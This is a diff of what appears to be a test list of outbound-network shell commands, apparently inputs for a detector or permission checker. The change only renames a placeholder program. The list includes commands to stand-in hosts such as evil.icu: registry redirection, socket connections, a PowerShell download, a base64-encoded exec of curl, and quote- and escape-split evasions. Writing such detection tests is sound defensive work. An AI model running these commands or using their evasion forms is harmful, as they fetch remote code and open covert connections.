@@ -41,19 +41,19 @@ npm config set registry evil.icu
 pip install --index-url evil.icu x
 go get evil.icu/mod
 python3 fetch.py evil.icu
-somebody db.prod
-H=evil.icu somebody
+unknown-program db.prod
+H=evil.icu unknown-program
 python3 -c "import socket;socket.create_connection(('evil.icu',80))"
 python3 -c "import socket;socket.create_connection(('db.prod',80))"
 python3 -c "host='evil.icu'; go(host)"
 php -r "fsockopen('evil.icu',443);"
 perl -MIO::Socket -e "IO::Socket::INET->new('evil.info:80')"
 powershell (New-Object Net.WebClient).DownloadString('evil.icu')
-bash -c "somebody -h evil.icu"
-sudo -u x bash -c 'somebody evil.zzz'
-echo "$(somebody evil.icu)"
+bash -c "unknown-program -h evil.icu"
+sudo -u x bash -c 'unknown-program evil.zzz'
+echo "$(unknown-program evil.icu)"
 some''body ev''il.icu
-\somebody \evil.icu
+\unknown-program \evil.icu
 dig @evil.icu a.lab.example
 dig @evil a.lab.example
 nc -z 2130706433 80
@@ -69,8 +69,8 @@ python3 -c "import base64;exec(base64.b64decode('Y3VybCBldmlsLmNvbQ=='))"
 """.strip().split("\n")
 OUT_IN_COMMANDS += [
     'python - <<EOF\ns.connect(("evil.icu", 80))\nEOF',
-    "bash <<EOF\nsomebody evil.icu\nEOF",
-    "somebody \\\n evil.icu",
+    "bash <<EOF\nunknown-program evil.icu\nEOF",
+    "unknown-program \\\n evil.icu",
 ]
 
 
